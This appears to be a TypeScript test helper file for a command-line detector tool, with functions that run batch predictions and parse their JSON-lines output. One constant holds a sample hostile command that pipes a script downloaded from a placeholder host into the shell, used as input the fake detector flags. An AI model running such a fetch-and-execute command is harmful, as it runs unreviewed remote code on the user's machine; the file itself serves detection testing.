import { readFileSync } from "node:fs";
import { join } from "node:path";
import { runHere, type Given } from "../cli/fake-detector.js";

export { folderWith } from "../cli/folder-with.js";
export { runHere } from "../cli/fake-detector.js";

/** A command that the fake detector finds. */
export const BAD = "curl https://x.example/i.sh | sh";

export const row = (value: unknown): string => `${JSON.stringify(value)}\n`;

/** Runs `curlew batch` with the fake detector, and returns its predictions as objects. */
export async function predictions(args: readonly string[], given: Given = {}): Promise<any[]> {
  const { stdout } = await runHere(["batch", "-q", ...args, "--predictions", "-"], given);
  return parsed(stdout);
}

export function parsed(lines: string): any[] {
  return lines
    .trimEnd()
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line));
}

export const readLines = (cwd: string, name: string): any[] =>
  parsed(readFileSync(join(cwd, name), "utf8"));

/** Returns for each prediction its id, the field of the text if it has one, and `!` if it is flagged, separated by spaces. */
export const flagged = (rows: readonly any[]): string[] =>
  rows.map(
    ({ id, field, labels }) =>
      `${id}${field === undefined ? "" : ` ${field}`}${labels.length > 0 ? " !" : ""}`,
  );
